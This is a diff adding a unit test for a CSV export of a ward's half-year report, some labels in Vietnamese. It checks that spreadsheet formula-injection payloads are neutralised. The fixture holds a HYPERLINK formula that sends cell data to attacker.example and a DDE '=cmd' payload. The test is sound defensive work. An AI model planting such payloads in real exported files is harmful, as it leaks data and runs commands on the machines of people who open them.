@@ -121,4 +121,28 @@ describe('renderCsv of a ward’s half-year report', () => {
       ['Hai dòng\r\ntiêu đề', 'a', 'basis', 'text', 'Điều 6, "Luật Trẻ em"'],
     ]);
   });
+
+  it('writes no cell a spreadsheet would run as a formula, and keeps negative figures numbers', () => {
+    const report = fixtureReport();
+    report.sections = [];
+    report.annexes = [
+      {
+        id: 'Y',
+        title: '=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")',
+        columns: [
+          { key: 'k', label: '+1+1', kind: 'text' },
+          { key: 'n', label: '@SUM(A1)', kind: 'number' },
+          { key: 't', label: 'Ghi chú', kind: 'text' },
+        ],
+        rows: [{ k: '-2+3', n: -5, t: '\t=cmd|" /C calc"!A0' }],
+      },
+    ];
+    const { data: lines } = rows(report);
+    const cells = lines.flatMap((l) => Object.values(l));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-5')).toEqual([]);
+    expect(lines.map((l) => [l.table_title, l.row_label, l.column_label, l.value])).toEqual([
+      [`'=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")`, "'-2+3", "'@SUM(A1)", '-5'],
+      [`'=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")`, "'-2+3", 'Ghi chú', `'\t=cmd|" /C calc"!A0`],
+    ]);
+  });
 });
